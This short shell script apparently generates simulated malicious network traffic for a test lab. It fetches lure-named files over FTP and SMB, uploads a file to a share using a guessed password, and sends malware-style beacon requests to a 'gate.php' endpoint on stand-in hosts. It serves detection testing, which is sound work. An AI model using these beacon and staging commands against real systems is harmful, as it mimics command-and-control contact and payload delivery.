# ws7 fetches and drops files: FTP, SMB, HTTP/2 without TLS. Run as ws7.
c() { curl -q -s -o /dev/null --max-time 8 "$@" || true; }
c -u anonymous:ana.ruiz@corp.example ftp://203.0.113.80/dl/KestrelSetup.bin
c -u anonymous:ana.ruiz@corp.example 'ftp://[2001:db8:bad::80]/dl/invoice-7731.zip'
c --http2-prior-knowledge -A 'gh/0.9' 'http://api.gray-heron.test:8080/gate.php?h=ws7&v=h2c'
c --http2 -A 'gh/0.9' 'http://203.0.113.66:8080/gate.php?v=upgrade'
smbclient -s /srv/smb.conf -U ana.ruiz%guess -m SMB3 //198.51.100.80/pub -c 'ls; get dl\KestrelSetup.bin /dev/null; put /srv/www/kestrel/dl/invoice-7731.zip invoice-7731.zip' >/dev/null 2>&1 || true
smbclient -s /srv/smb.conf -U ana.ruiz%guess -m SMB2_02 //2001-db8-2--80.ipv6-literal.net/pub -I 2001:db8:2::80 -c 'get invoice-7731.zip /dev/null' >/dev/null 2>&1 || true
